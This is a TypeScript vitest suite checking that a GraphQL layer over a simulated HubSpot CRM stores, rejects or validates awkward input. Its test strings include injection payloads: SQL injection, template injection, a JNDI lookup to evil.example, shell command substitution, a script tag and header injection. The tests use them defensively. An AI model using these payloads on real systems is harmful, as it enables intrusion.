import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { Stack } from '../helpers/stack.ts';
import { expectUnharmed } from '../helpers/unharmed.ts';

let stack: Stack;
beforeAll(async () => {
  stack = await Stack.start();
  const scopes = stack.config.hubspot.optionalScopes;
  await stack.connect({ optionalScopes: scopes }, undefined, { granted: scopes });
});
afterAll(() => stack.stop());
beforeEach(() => stack.simulator.log.clear());
afterEach(() => expectUnharmed(stack));

const calls = () => stack.simulator.log.crm();
const stored = (id: string, property: string) =>
  stack.simulator.portals[0]?.record('contacts', id)?.properties.get(property);

/** What a mutation with this input comes to. */
async function write(mutation: string, input: object, selection = '') {
  const type = `${mutation[0]?.toUpperCase()}${mutation.slice(1)}Input!`;
  const query = `mutation ($input: ${type}) { x: ${mutation}(input: $input) { ${selection} userErrors { code path } } }`;
  const { raw, answer } = await stack.send(query, { input });
  expect(raw.status).toBeLessThan(500);
  return answer;
}

/** The one error's extensions. HubSpot was not asked anything. */
async function refusal(mutation: string, input: object): Promise<unknown> {
  const { errors, data } = await write(mutation, input);
  expect(data ?? { x: null }).toEqual({ x: null });
  expect(errors).toHaveLength(1);
  expect(JSON.stringify(errors).length).toBeLessThan(2_000);
  expect(calls()).toEqual([]);
  return errors?.[0]?.extensions;
}

const TEXTS = [
  "'; drop table installations; --",
  `\${7*7}{{7*7}}<%= 7*7 %>`,
  `\${jndi:ldap://evil.example/a}`,
  '$(touch /tmp/x)`id`|cat',
  '<script>alert(1)</script>',
  '%00%0d%0aset-cookie: a=b',
  '"}],"properties":["secret"],"x":[{"y":"',
  '\u0000\u001b[31m\u202e\u2028',
  '\ud800',
  'a\udc00b',
  '👩‍👩‍👧‍👦 مرحبا',
  ' ',
  '__proto__',
  'x'.repeat(65_536),
];

describe('texts', () => {
  it.each(TEXTS.map((text) => [text.slice(0, 40), text]))('B53: %j is stored as it is', async (_title, text) => {
    const lines = stack.logs.length;
    const selection = 'contact { hubspotId city jobTitle property(name: "fax") { raw } }';
    const values = { city: text, jobTitle: text, properties: [{ name: 'fax', value: text }] };
    const contact = { city: text, jobTitle: text, property: { raw: text } };
    for (const [mutation, target] of [
      ['createContact', { firstName: 'A' }],
      ['updateContact', { id: '100002' }],
      ['upsertContact', { idValue: 'verbatim@b.example' }],
    ] as const) {
      const { data, errors } = await write(mutation, { ...target, ...values }, selection);
      expect(errors).toBeUndefined();
      expect(data).toMatchObject({ x: { contact, userErrors: [] } });
      const { hubspotId } = (data as unknown as { x: { contact: { hubspotId: string } } }).x.contact;
      expect(['city', 'jobtitle', 'fax'].map((property) => stored(hubspotId, property))).toEqual([text, text, text]);
    }
    for (const line of stack.logs.slice(lines)) expect(JSON.parse(line)).toBeTypeOf('object');
    if (text.length > 20) expect(stack.logs.slice(lines).join('')).not.toContain(text.slice(0, 20));
  });

  it.each([
    ['a megabyte', 'x'.repeat(900_000)],
    ['one character more than HubSpot keeps', 'x'.repeat(65_537)],
    ['as long in surrogates', '👩'.repeat(32_769)],
  ])('B55: %s is written nowhere', async (_title, text) => {
    for (const mutation of ['createContact', 'updateContact', 'upsertContact']) {
      const target = { createContact: {}, updateContact: { id: '1' }, upsertContact: { idValue: 'a@b.example' } }[
        mutation
      ];
      for (const field of ['email', 'website', 'lifecycleStage', 'zip']) {
        expect(await refusal(mutation, { ...target, [field]: text })).toEqual({
          code: 'BAD_USER_INPUT',
          argument: field,
        });
      }
      expect(await refusal(mutation, { ...target, properties: [{ name: 'fax', value: text }] })).toEqual({
        code: 'BAD_USER_INPUT',
        argument: 'properties',
      });
    }
    for (const field of ['name', 'stageId', 'pipelineId', 'description']) {
      expect(await refusal('updateDeal', { id: '1', [field]: text })).toEqual({
        code: 'BAD_USER_INPUT',
        argument: field,
      });
    }
    for (const field of ['domain', 'website', 'industry']) {
      expect(await refusal('createCompany', { [field]: text })).toEqual({ code: 'BAD_USER_INPUT', argument: field });
    }
    expect(await refusal('upsertContact', { idValue: text })).toEqual({ code: 'BAD_USER_INPUT', argument: 'idValue' });
  });

  it.each(['', ' ', '\t\n', '\u00a0'])('B55: %j is no unique value', async (idValue) => {
    expect(await refusal('upsertContact', { idValue })).toEqual({ code: 'BAD_USER_INPUT', argument: 'idValue' });
    expect(await refusal('upsertDeal', { idProperty: 'number', idValue })).toEqual({
      code: 'BAD_USER_INPUT',
      argument: 'idValue',
    });
  });

  it.each(['no address', 'a@b', 'a@b.example\u0000', 'a@b.example\r\nX: y', 'a b@c.example', `${'x'.repeat(60_000)}`])(
    'B55: HubSpot says of an e-mail address that it is none, once (%#)',
    async (email) => {
      for (const [mutation, input, path] of [
        ['createContact', { email }, ['input', 'email']],
        ['updateContact', { id: '100001', email }, ['input', 'email']],
        ['upsertContact', { idValue: email }, ['input', 'idValue']],
        ['createContact', { properties: [{ name: 'email', value: email }] }, ['input', 'properties', '0']],
      ] as const) {
        stack.simulator.log.clear();
        const answer = await write(mutation, input);
        expect(answer).toEqual({ data: { x: { userErrors: [{ code: 'VALIDATION_FAILED', path }] } } });
        expect(calls()).toHaveLength(1);
      }
    },
  );

  it('B55: an internationalised address and domain are sent as they are', async () => {
    await write('createContact', { email: 'zoë@bücher.example', website: 'https://bücher.example/ä?q=%20' });
    expect(calls()[0]?.body).toEqual({
      properties: { email: 'zoë@bücher.example', website: 'https://bücher.example/ä?q=%20' },
    });
  });
});

describe('moments', () => {
  it.each([
    ...['0000-00-00', '0000-00-00T00:00:00Z', '2026-02-31T00:00:00Z', '2026-13-01T00:00:00Z', '2026-01-01T25:00:00Z'],
    ...['275761-01-01T00:00:00Z', '+275760-09-13T00:00:00.001Z', '2026-01-01T00:00:00-99:99', '2026-01-01', 'now', ' '],
    ...['', '1767225600', '1767225600000', 1_767_225_600, 1_767_225_600_000, true, {}],
  ])('B54: %j is none', async (closeDate) => {
    for (const [mutation, target] of [
      ['createDeal', { name: 'A', stageId: 'appointmentscheduled' }],
      ['updateDeal', { id: '300001' }],
      ['upsertDeal', { idProperty: 'number', idValue: '1' }],
    ] as const) {
      expect(await refusal(mutation, { ...target, closeDate })).toEqual({ code: 'BAD_USER_INPUT' });
    }
    const literal = `mutation { updateDeal(input: { id: "300001", closeDate: ${typeof closeDate === 'object' ? '{}' : JSON.stringify(closeDate)} }) { created } }`;
    expect((await stack.query(literal)).errors?.[0]?.extensions).toEqual({ code: 'GRAPHQL_VALIDATION_FAILED' });
    expect(calls()).toEqual([]);
  });

  it('B54: HubSpot says of one among properties that it is none', async () => {
    const properties = [{ name: 'closedate', value: '2026-02-31' }];
    expect(await write('updateDeal', { id: '300001', properties })).toEqual({
      data: { x: { userErrors: [{ code: 'VALIDATION_FAILED', path: ['input', 'properties', '0'] }] } },
    });
  });

  it('B54: another time zone is the same moment', async () => {
    await write('updateDeal', { id: '300001', closeDate: '2026-01-01T01:00:00+01:00' });
    expect(calls()[0]?.body).toEqual({ properties: { closedate: '1767225600000' } });
  });
});

describe('decimals', () => {
  it.each([
    ...[
      '',
      ' 1',
      '1\n',
      '1,000',
      '1 000',
      '0x10',
      '٣',
      'NaN',
      'Infinity',
      '-',
      '1..2',
      '--1',
      '1e9999',
      '9'.repeat(129),
    ],
    ...['x'.repeat(900_000), '\u0000', true, [], {}, ['1'], 2 ** 53, 1e300],
  ])('B40: %j is none', async (amount) => {
    expect(await refusal('updateDeal', { id: '300001', amount })).toEqual({ code: 'BAD_USER_INPUT' });
    expect(await refusal('createCompany', { name: 'A', annualRevenue: amount })).toEqual({ code: 'BAD_USER_INPUT' });
  });

  it.each([
    ['12345678901234.56', '12345678901234.56'],
    ['0.1', '0.1'],
    [0.1, '0.1'],
    [12345678901234.56, '12345678901234.56'],
    ['0.1000000000000000055511151231257827', '0.1000000000000000055511151231257827'],
    ['1.50', '1.50'],
    ['+1.5e3', '1500'],
    ['-.5', '-0.5'],
    ['1e-3', '0.001'],
  ])('%j is stored digit for digit', async (amount, text) => {
    const { data } = await write('updateDeal', { id: '300001', amount }, 'deal { amount }');
    expect(data).toMatchObject({ x: { deal: { amount: text } } });
    expect(calls()[0]?.body).toEqual({ properties: { amount: text } });
  });
});

describe('labels', () => {
  const PAIR = { from: { objectType: 'CONTACT', id: '100020' }, to: { objectType: 'DEAL', id: '300040' } };
  const writes = () => calls().filter(({ method }) => method !== 'GET');

  it.each<[string, string[]]>([
    ['an empty one', ['']],
    ['one in another case', ['decision maker']],
    ['a megabyte', ['x'.repeat(900_000)]],
    ['control characters', ['\u0000\u001b[31m']],
    ['a lone surrogate', ['\ud800']],
    ['markup', ['<script>alert(1)</script>']],
    ['a name of every object', ['__proto__']],
    ['ten thousand', Array.from({ length: 10_000 }, (_, index) => `Label ${index}`)],
  ])('B52: %s is a label that nobody has, and nothing is written', async (_name, labels) => {
    for (const mutation of ['associate', 'dissociate']) {
      expect(await write(mutation, { ...PAIR, labels })).toEqual({
        data: { x: { userErrors: [{ code: 'VALIDATION_FAILED', path: ['input', 'labels', '0'] }] } },
      });
    }
    const associations = [{ ...PAIR.to, label: labels[0] }];
    expect(await write('createContact', { firstName: 'A', associations })).toEqual({
      data: { x: { userErrors: [{ code: 'VALIDATION_FAILED', path: ['input', 'associations', '0', 'label'] }] } },
    });
    expect(writes()).toEqual([]);
  });
});
